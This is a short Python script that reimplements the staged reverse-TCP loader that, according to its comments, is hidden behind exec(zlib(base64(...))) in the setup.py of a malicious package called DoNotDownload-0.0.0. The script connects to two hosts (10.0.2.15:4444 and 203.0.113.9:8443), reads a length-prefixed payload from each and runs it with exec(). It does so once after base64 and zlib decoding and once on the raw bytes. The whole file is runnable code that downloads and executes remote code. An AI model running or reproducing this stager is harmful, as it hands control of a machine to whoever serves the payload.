# A staged reverse-TCP payload, as DoNotDownload-0.0.0's setup.py hides
# it behind exec(zlib(base64(...))) (Metasploit's python/meterpreter/
# reverse_tcp stager): connect, read a 4-byte big-endian length and that
# many bytes, run them in-process with the socket at hand. The current
# form decodes base64 of zlib first; older stagers exec() the bytes as
# they come. Both run here, each on a connection of its own.
import base64, socket, struct, time, zlib

def stage(host, port):
    for _ in range(3):
        try:
            s = socket.socket(2, socket.SOCK_STREAM)
            s.connect((host, port))
            break
        except OSError:
            time.sleep(1)
    l = struct.unpack(">I", s.recv(4))[0]
    d = s.recv(l)
    while len(d) < l:
        d += s.recv(l - len(d))
    return s, d

s, d = stage("10.0.2.15", 4444)
exec(zlib.decompress(base64.b64decode(d)), {"s": s})

s, d = stage("203.0.113.9", 8443)
exec(d, {"s": s})
print("stages ran")
